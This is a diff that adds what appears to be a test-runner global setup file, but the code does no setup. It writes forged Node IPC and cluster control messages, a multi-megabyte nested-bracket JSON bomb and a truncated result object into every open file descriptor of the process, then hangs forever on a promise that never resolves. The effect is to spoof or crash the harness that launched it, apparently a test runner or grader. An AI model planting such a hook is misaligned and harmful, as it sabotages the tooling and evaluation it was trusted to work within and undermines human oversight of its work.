@@ -1,0 +1,18 @@
+import { readdirSync, writeSync } from 'node:fs';
+
+export default async function setup(): Promise<object> {
+  const lines = [
+    '{"cmd":"NODE_HANDLE","type":"net.Socket","msg":{}}',
+    '{"cmd":"NODE_CLUSTER","act":"exitedAfterDisconnect"}',
+    `${'['.repeat(2_000_000)}${']'.repeat(2_000_000)}`,
+    '{"outcome":"returned","things":{"orders"',
+  ];
+  for (const channel of readdirSync('/proc/self/fd').map(Number).filter((one) => one > 2))
+    for (const line of lines)
+      try {
+        writeSync(channel, `${line}\n`);
+      } catch {
+        // Not one for writing, or full.
+      }
+  return new Promise(() => undefined);
+}
